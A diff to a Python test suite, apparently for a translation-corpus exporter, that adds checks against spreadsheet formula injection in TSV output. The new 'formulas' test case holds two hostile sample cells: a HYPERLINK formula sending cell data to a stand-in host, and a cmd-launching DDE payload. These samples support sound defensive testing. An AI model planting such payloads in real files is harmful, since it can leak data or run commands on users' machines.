@@ -5,6 +5,7 @@ import errno
 import gzip
 import hashlib
 import json
+import re
 import sys
 import tracemalloc
 import xml.etree.ElementTree as ET
@@ -91,7 +92,11 @@ def read_sentences(folder: Path) -> list[tuple[str, str]]:
 
 def read_tsv(folder: Path) -> list[tuple[str, str]]:
     rows = csv.DictReader(lines(only(folder, "en-fr.tsv*")), delimiter="\t", quoting=csv.QUOTE_NONE)
-    return [(row["src_text"], row["trg_text"]) for row in rows]
+    cells = [(row["src_text"], row["trg_text"]) for row in rows]
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in cells for cell in row)
+    # As docs/reference/corpus.md says.
+    a, b = ([re.sub(r"^'(?='*[=+@-])", "", row[side]) for row in cells] for side in (0, 1))
+    return list(zip(a, b, strict=True))
 
 
 def read_moses(folder: Path) -> list[tuple[str, str]]:
@@ -253,8 +258,10 @@ def test_every_page_that_a_pair_names_is_there(tmp_path, compress):
         ((ARABIC, "שלום עולם \u2066abc\u2069"), None),
         (("x" * 2_000_000 + " y z", "א" * 2_000_000 + " y z"), None),
         (('"quoted" \\n \\t', "'=1+1' «a\u00a0b»"), None),
+        (('=HYPERLINK("http://x.test/"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0"), None),
+        (("+49 30 1234", "'-5 °C"), None),
     ],
-    ids=["plain", "hostile", "right-to-left", "huge", "quotes"],
+    ids=["plain", "hostile", "right-to-left", "huge", "quotes", "formulas", "numbers"],
 )
 def test_a_reader_that_is_not_ours_finds_what_was_written(tmp_path, case, texts, found, compress):
     csv.field_size_limit(1 << 30)
